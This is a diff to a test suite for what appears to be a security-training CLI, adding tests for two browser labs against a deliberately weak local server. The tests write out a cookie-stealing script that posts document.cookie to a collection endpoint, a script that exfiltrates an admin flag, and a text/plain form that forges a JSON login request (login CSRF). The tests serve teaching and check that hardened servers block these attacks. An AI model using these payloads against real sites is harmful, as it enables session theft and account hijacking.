@@ -346,7 +346,7 @@ def test_ctrl_c_stops_the_servers_and_says_so(tmp_path):
 
 def test_bad_options_get_one_line(tmp_path, monkeypatch):
     monkeypatch.setenv("AUTHCLI_HOME", str(tmp_path))
-    for args, said in [(["login-csrf", "--exercise"], "login-csrf has no exercise yet"),
+    for args, said in [(["nosuch", "--exercise"], "unknown weakness nosuch"),  # every lab has an exercise
                        (["--exercise"], "--exercise takes one lab"),
                        (["alg-none", "--hint", "9"], "alg-none has 4 hints"),
                        (["alg-none", "--hint", "x"], "--hint takes a number"),
@@ -425,7 +425,8 @@ def test_the_list_marks_exactly_the_labs_with_an_exercise():
     listed = cli("lab", "--list").stdout.splitlines()
     marked = {line.split()[0] for line in listed if line.split()[2] == "exercise"}
     assert marked == set(EXERCISES) == set(LABS + SESSION_LABS + ["jku-header", "no-rate-limit", "user-enum", "fixation",
-                                                                 "alg-confusion-no-key", "no-pkce", "redirect-prefix"])
+                                                                 "alg-confusion-no-key", "no-pkce", "redirect-prefix",
+                                                                 "no-httponly", "login-csrf"])
     for exercise in EXERCISES.values():  # graded: each hint says more; every fact cites a source
         assert len(exercise.hints) >= 3 and any("[^" in h for h in exercise.hints)
 
@@ -685,3 +686,111 @@ def test_redirect_prefix_not_by_the_apps_own_redirect_or_a_bad_link(tmp_path):
         run.type("q")
         code_, out = run.finish()
     assert code_ == 1 and "solved:" not in out
+
+
+# no-httponly: user 1's page, in a real Chromium, runs the script sent to /victim; /collect is the
+# student's drop box. Only a request the student sends with user 1's ID counts.
+
+def steal(url: str, script: str) -> requests.Response:
+    return requests.post(url + "/victim", json={"script": script}, timeout=10)
+
+
+COOKIE_OUT = 'fetch("/collect", {method: "POST", body: document.cookie})'  # hint 3's script
+
+
+def test_a_student_steals_user_1s_cookie_with_a_script(tmp_path):
+    from conftest import require_browser
+
+    require_browser()
+    with Exercise("no-httponly", tmp_path, timeout=40) as run:
+        assert steal(run.url, COOKIE_OUT).status_code == 202
+        run.until("your script in user 1's page: it ran")
+        collected = requests.get(run.url + "/collect", timeout=10).text.splitlines()
+        cookie = json.loads(collected[-1])
+        assert cookie.startswith("sessionId=")
+        answer = with_cookie(run.url, cookie.split("=", 1)[1])
+        assert answer.status_code == 200, answer.text
+        code, out = run.finish()
+    assert code == 0, out
+    assert "solved: no-httponly" in out and f"Cookie: {cookie}" in out
+    # the same script in user 1's page on the hardened server: document.cookie gave ""
+    assert "What your scripts in user 1's page there collected: GET /collect to the hardened server" in out
+    assert '\n  200 ""\n' in out
+
+
+def test_the_flag_fetched_by_the_page_or_eves_cookie_is_not_accepted(tmp_path):
+    from conftest import require_browser
+
+    require_browser()
+    with Exercise("no-httponly", tmp_path, timeout=40) as run:
+        # the page's own /admin request, flag and all, is user 1's browser's: never counted
+        inside = 'fetch("/admin").then(r => r.text()).then(t => fetch("/collect", {method: "POST", body: t}))'
+        assert steal(run.url, inside).status_code == 202
+        run.until("your script in user 1's page: it ran")
+        assert "This run's flag" in requests.get(run.url + "/collect", timeout=10).text
+        steal(run.url, "while (true) {}")  # stopped, not a hang
+        run.until("your script in user 1's page: it was stopped")
+        assert steal(run.url, "document.cookie.nope()").status_code == 202  # the page still runs scripts
+        run.until("your script in user 1's page: it threw TypeError")
+        mine = requests.post(run.url + "/login", json=EVE, timeout=10)
+        assert requests.get(run.url + "/admin", cookies=mine.cookies, timeout=10).status_code == 403
+        assert with_cookie(run.url, "not-a-session").status_code == 401
+        url = run.url + "/victim"
+        assert requests.get(url, timeout=10).status_code == 405
+        assert requests.post(url, data="{}", headers={"Content-Type": "text/plain"}, timeout=10).status_code == 415
+        for body in ("{not json", '{"script": 3}', '{"script": " "}', "[]", json.dumps({"script": "x" * 4001})):
+            answer = requests.post(url, data=body, headers={"Content-Type": "application/json"}, timeout=10)
+            assert answer.status_code == 400 and "script" in answer.text, body
+        assert requests.delete(run.url + "/collect", timeout=10).status_code == 405
+        run.type("q")
+        code, out = run.finish()
+    assert code == 1 and "solved:" not in out and "Traceback" not in out
+
+
+@pytest.mark.parametrize("lab", ["no-httponly", "login-csrf"])
+def test_a_browser_exercise_without_chromium_says_so_in_one_line(tmp_path, lab):
+    env = {**ENV, "AUTHCLI_HOME": str(tmp_path), "AUTHCLI_CHROMIUM": "/nonexistent/chromium"}
+    done = subprocess.run([sys.executable, "-m", "authcli", "lab", lab, "--exercise"], env=env,
+                          capture_output=True, text=True, timeout=30, stdin=subprocess.DEVNULL)
+    assert done.returncode == 2 and done.stdout == ""
+    assert done.stderr.count("\n") == 1 and done.stderr.startswith("error: ") and "hromium" in done.stderr
+
+
+# login-csrf: user 1's Chromium opens the student's page at another site; it counts when that
+# page's form logged user 1 in to eve's account on the weak server.
+
+def csrf_page(url: str, email: str = "eve@example.com", password: str = "eve") -> str:
+    """Hints 3 and 4's page.html: a text/plain form whose one field makes a JSON body."""
+    name = json.dumps({"email": email, "password": password, "pad": ""})[:-2]
+    return (f"<form method=POST action='{url}/login' enctype='text/plain'><input name='{name}' value='\"}}'>"
+            "</form><script>document.forms[0].submit()</script>")
+
+
+def test_a_student_logs_user_1_in_as_eve_from_another_site(tmp_path):
+    from conftest import require_browser
+
+    require_browser()
+    with Exercise("login-csrf", tmp_path, timeout=40) as run:
+        answer = requests.post(run.url + "/victim", json={"page": csrf_page(run.url)}, timeout=10)
+        assert answer.status_code == 202
+        code, out = run.finish()
+    assert code == 0, out
+    assert "solved: login-csrf" in out and "Origin: http://attacker.example" in out
+    assert "The same request to the hardened server" in out and "\n  403 " in out
+
+
+def test_a_page_that_does_not_log_user_1_in_as_eve_is_not_accepted(tmp_path):
+    from conftest import require_browser
+
+    require_browser()
+    with Exercise("login-csrf", tmp_path, timeout=40) as run:
+        for page in ("<p>hello</p>", csrf_page(run.url, password="wrong")):
+            assert requests.post(run.url + "/victim", json={"page": page}, timeout=10).status_code == 202
+            run.until("user 1 opened your page")
+        # eve's own login, even with the attacker page's Origin, is not user 1's browser's
+        mine = requests.post(run.url + "/login", json=EVE, headers={"Origin": "http://attacker.example"}, timeout=10)
+        assert mine.ok and requests.get(run.url + "/collect", timeout=10).status_code == 404
+        assert requests.post(run.url + "/victim", json={"script": "x"}, timeout=10).status_code == 400
+        run.type("q")
+        code, out = run.finish()
+    assert code == 1 and "solved:" not in out and "Traceback" not in out
